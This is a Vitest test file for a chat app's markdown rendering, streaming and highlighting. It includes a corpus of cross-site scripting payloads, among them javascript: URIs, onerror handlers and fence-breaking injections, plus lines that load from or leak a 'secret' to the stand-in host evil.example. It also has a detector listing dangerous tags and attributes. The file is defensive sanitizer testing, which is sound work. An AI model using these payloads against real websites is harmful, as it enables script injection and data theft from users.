// @vitest-environment jsdom
import { describe, expect, it, vi } from 'vitest';
import { createSanitizer } from '$lib/client/markdown/sanitize';
import { MarkdownStream, renderMarkdown } from '$lib/client/markdown/stream';
import { highlight } from '$lib/client/markdown/highlight';
import { grammarName } from '$lib/client/markdown/grammars';

const sanitize = createSanitizer(window);
const render = (text: string) => renderMarkdown(text, sanitize);

/** Parses rendered HTML and lists everything in it that could run script or load from afar. */
function hazards(html: string): string[] {
	const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
	const found: string[] = [];
	for (const el of doc.body.querySelectorAll('*')) {
		const tag = el.tagName.toLowerCase();
		if (
			[
				'script',
				'iframe',
				'object',
				'embed',
				'svg',
				'math',
				'style',
				'form',
				'base',
				'link',
				'meta',
				'frame',
				'frameset'
			].includes(tag)
		)
			found.push(`<${tag}>`);
		for (const attr of el.attributes) {
			const name = attr.name.toLowerCase();
			if (name.startsWith('on')) found.push(`${tag}[${name}]`);
			if (name === 'style' || name === 'srcset' || name === 'formaction')
				found.push(`${tag}[${name}]`);
			if (['href', 'src', 'xlink:href', 'action', 'data'].includes(name)) {
				const value = attr.value.trim().toLowerCase();
				const safe =
					(tag === 'a' && /^(https?:|mailto:)/.test(value)) ||
					(tag === 'img' && /^\/api\/images\/[a-z0-9_-]+$/.test(value));
				if (!safe) found.push(`${tag}[${name}=${attr.value}]`);
			}
		}
	}
	return found;
}

const XSS_CORPUS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><circle r=1></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	'<a href="javascript:alert(1)">x</a>',
	'[click](javascript:alert(1))',
	'[click](JaVaScRiPt:alert(1))',
	'[click]( javascript:alert(1) )',
	'[click](&#106;avascript:alert(1))',
	'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[click](vbscript:msgbox(1))',
	'[ref][1]\n\n[1]: javascript:alert(1)',
	'<javascript:alert(1)>',
	'![x](javascript:alert(1))',
	'![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	'![track](https://evil.example/pixel.png?q=secret)',
	'<details open ontoggle=alert(1)>',
	'<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
	'<form action="javascript:alert(1)"><button>go</button></form>',
	'<style>body{background:url(https://evil.example)}</style>',
	'<p style="background:url(https://evil.example/x)">x</p>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'```"><script>alert(1)</script>\ncode\n```',
	'```js" onmouseover="alert(1)\nlet a = 1;\n```',
	'```<img src=x onerror=alert(1)>\nx\n```',
	'```html\n</code></pre><script>alert(1)</script>\n```',
	'```\n</code></pre><img src=x onerror=alert(1)>',
	'`</code><script>alert(1)</script>`',
	'<div>\n\n*x*\n\n</div><img src=x onerror=alert(1)>',
	'| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
	'<a href="https://ok.example" onclick="alert(1)">ok</a>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<!--<img src="--><img src=x onerror=alert(1)//">'
];

describe('markdown rendering', () => {
	it('leaves nothing executable or remote from the XSS corpus', async () => {
		for (const input of XSS_CORPUS) {
			expect(hazards(render(input)), input).toEqual([]);
			// The same text streamed in small pieces, highlighted, ends as safe.
			// Counts highlights settled; the stream's own reaction to each is queued right after ours.
			let started = 0;
			let settled = 0;
			const tracked = (code: string, grammar: string) => {
				started++;
				const result = highlight(code, grammar);
				void result.finally(() => settled++);
				return result;
			};
			const stream = new MarkdownStream({ sanitize, highlight: tracked });
			for (let i = 1; i <= input.length; i += 3) stream.update(input.slice(0, i), false);
			stream.update(input, true);
			await vi.waitFor(() => expect(settled).toBe(started));
			await Promise.resolve();
			const html = stream.blocks.map((b) => b.html).join('') + stream.tail;
			expect(hazards(html), `streamed: ${input}`).toEqual([]);
		}
	});

	it('shows raw HTML from the model as text', () => {
		const html = render('Hello <b>there</b> <script>x()</script>');
		expect(html).toContain('&lt;b&gt;there&lt;/b&gt;');
		expect(html).not.toContain('<b>');
	});

	it('keeps rich text rich: emphasis, tables, lists, code', () => {
		const html = render('**bold** _it_\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n`x`');
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toContain('<em>it</em>');
		expect(html).toContain('<table>');
		expect(html).toContain('<li>one</li>');
		expect(html).toContain('<code>x</code>');
	});

	it('opens safe links in a new tab without referrer or opener', () => {
		const html = render('[site](https://example.com) and <mailto:a@example.com>');
		const doc = new DOMParser().parseFromString(html, 'text/html');
		const links = [...doc.querySelectorAll('a')];
		expect(links.map((a) => a.getAttribute('href'))).toEqual([
			'https://example.com',
			'mailto:a@example.com'
		]);
		for (const a of links) {
			expect(a.getAttribute('rel')).toBe('noopener noreferrer');
			expect(a.getAttribute('target')).toBe('_blank');
		}
	});

	it('does not load remote images: they become a link naming the host', () => {
		const html = render('![chart](https://img.example/c.png)');
		expect(html).not.toContain('<img');
		expect(html).toContain('img.example');
		expect(html).toContain('href="https://img.example/c.png"');
	});

	it('gives every code block a copy button and a language label', () => {
		const html = render('```python\nprint(1)\n```');
		expect(html).toContain('data-copy="code"');
		expect(html).toContain('<span>python</span>');
		expect(html).toContain('data-lang="python"');
	});

	it('accepts only known grammar names from fences', () => {
		expect(grammarName('ts')).toBe('typescript');
		expect(grammarName('Python extra words')).toBe('python');
		expect(grammarName('constructor')).toBeNull();
		expect(grammarName('__proto__')).toBeNull();
		expect(grammarName('"><script>')).toBeNull();
		expect(grammarName(undefined)).toBeNull();
	});

	it('highlights with classes, not inline styles', async () => {
		const body = await highlight('const a = "<b>";', 'javascript');
		expect(body).toMatch(/class="tok-/);
		expect(body).not.toContain('style=');
		expect(body).toContain('&lt;b&gt;');
	});
});

describe('streaming markdown', () => {
	const DOC = [
		'# Title\n\nSome **bold** text that goes on for a while, with `code` and a [link](https://a.example).\n\n',
		'- one\n- two\n\n- three after a blank line\n\n',
		'```ts\nconst x: number = 1;\nfunction f() {\n  return x;\n}\n```\n\n',
		'| a | b |\n|---|---|\n| 1 | 2 |\n\n',
		'> quoted\n> more\n\nA reference [ref][r].\n\n[r]: https://r.example\n\nEnd.'
	].join('');

	it('ends with the same HTML as one full render, whatever the chunking', () => {
		for (const step of [1, 3, 17, 64, 1000]) {
			const stream = new MarkdownStream({ sanitize });
			for (let i = step; i < DOC.length; i += step) stream.update(DOC.slice(0, i), false);
			stream.update(DOC, true);
			const streamed = stream.blocks.map((b) => b.html).join('') + stream.tail;
			const norm = (s: string) => s.replace(/\s+/g, ' ').replace(/> </g, '><').trim();
			// Reference definitions that arrive after their use are the one known difference.
			expect(norm(streamed).replace(/<a[^>]*>ref<\/a>|\[ref\]\[r\]/g, 'REF')).toBe(
				norm(render(DOC)).replace(/<a[^>]*>ref<\/a>|\[ref\]\[r\]/g, 'REF')
			);
			expect(stream.pending).toBe('');
		}
	});

	it('does not re-render completed blocks as text keeps arriving', () => {
		const stream = new MarkdownStream({ sanitize });
		stream.update('First paragraph.\n\nSecond', false);
		const first = stream.blocks[0];
		expect(first?.html).toContain('First paragraph.');
		stream.update(
			'First paragraph.\n\nSecond paragraph grows and grows and grows.\n\nThird',
			false
		);
		expect(stream.blocks[0]).toBe(first);
	});

	it('shows text it has not parsed yet as plain pending text', () => {
		const stream = new MarkdownStream({ sanitize });
		stream.update('Hello **wor', false);
		stream.update('Hello **world** and', false);
		expect(stream.tail + stream.pending).toContain('and');
	});

	it('highlights a code block once its fence closes, before the reply ends', async () => {
		let highlights = 0;
		const stream = new MarkdownStream({
			sanitize,
			highlight: async (code, grammar) => {
				highlights++;
				return highlight(code, grammar);
			}
		});
		const text = 'Look:\n\n```js\nlet a = 1;\n```';
		for (let i = 1; i <= text.length; i++) stream.update(text.slice(0, i), false);
		await vi.waitFor(() => expect(stream.blocks.at(-1)?.html).toContain('tok-'));
		expect(highlights).toBe(1);
		// A highlight starts synchronously inside update(), so none can be pending here.
		stream.update(text + '\n\nmore text', false);
		stream.update(text + '\n\nmore text', true);
		expect(highlights).toBe(1);
	});

	it('shows a code block still being written as plain code, without parsing it', () => {
		const stream = new MarkdownStream({ sanitize });
		stream.update('Intro.\n\n```python\nprint(1)\n', false);
		const parses = stream.work.parses;
		for (let i = 0; i < 50; i++)
			stream.update(`Intro.\n\n\`\`\`python\nprint(1)\n${'x = 1\n'.repeat(i)}`, false);
		expect(stream.work.parses).toBe(parses);
		expect(stream.openCode).toEqual({ info: 'python', code: `print(1)\n${'x = 1\n'.repeat(49)}` });
		expect(stream.tail).toBe('');
		stream.update(`Intro.\n\n\`\`\`python\nprint(1)\n\`\`\`\n`, true);
		expect(stream.openCode).toBeNull();
		expect(stream.blocks.at(-1)?.html).toContain('data-lang="python"');
	});

	it('starts over when the text is replaced rather than extended', () => {
		const stream = new MarkdownStream({ sanitize });
		stream.update('Alpha.\n\nBeta.', true);
		stream.update('Gamma.', true);
		const html = stream.blocks.map((b) => b.html).join('') + stream.tail;
		expect(html).toContain('Gamma.');
		expect(html).not.toContain('Alpha.');
	});
});
